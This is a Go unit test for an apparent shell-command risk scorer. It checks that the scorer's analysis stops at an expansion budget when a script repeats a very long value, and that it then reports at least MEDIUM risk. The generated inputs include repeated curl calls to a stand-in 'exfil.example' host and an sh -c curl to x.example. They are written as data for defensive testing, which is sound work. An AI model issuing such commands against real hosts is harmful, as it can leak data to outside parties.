package risk

import (
	"fmt"
	"strings"
	"testing"

	"github.com/vigil-dev/vigil/events"
)

// bomb is a short script that expands one long value n times (issue 10:
// U=<70 KB>; curl $U/0 … curl $U/69).
func bomb(valueBytes, n int, use string) string {
	var b strings.Builder
	b.WriteString("U=https://exfil.example/" + strings.Repeat("a", valueBytes) + "\n")
	for i := range n {
		fmt.Fprintf(&b, use+"; ", i)
	}
	return b.String()
}

// TestExpansionBudget: expansions count towards an analysis budget, so a
// script's walk costs time linear in its size however often it expands a
// long value; past the budget the walk stops with a MEDIUM finding, and
// what was seen before still counts.
func TestExpansionBudget(t *testing.T) {
	s := mustScorer(t, events.DefaultConfig())
	for _, tc := range []struct {
		name    string
		cmd     string
		stopped bool
	}{
		{"curl bomb", bomb(70000, 70, "curl $U/%d"), true},
		{"quoted, as an array", "A=(" + strings.Repeat("b", 300000) + ")\n" + strings.Repeat(`echo "${A[@]}"; `, 10), true},
		{"positional parameters", "sh -c '" + strings.Repeat("curl $1; ", 30) + "' _ https://x.example/" + strings.Repeat("c", 100000), true},
		{"a long value used a few times", bomb(100000, 5, "curl $U/%d"), false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			w := newWalker(Env{})
			w.run(tc.cmd)
			if w.expanded > maxExpanded+len(tc.cmd) {
				t.Fatalf("expanded %d bytes, budget %d", w.expanded, maxExpanded)
			}
			a := s.ScoreCommand(tc.cmd, Env{})
			if got := hasReason(a, AnalyzerParser, "analysis-budget"); got != tc.stopped {
				t.Fatalf("analysis-budget reason %v, want %v: %+v", got, tc.stopped, a.Reasons)
			}
			if tc.stopped && a.Level.Rank() < events.RiskMedium.Rank() {
				t.Fatalf("level %s after the budget ran out", a.Level)
			}
		})
	}
}
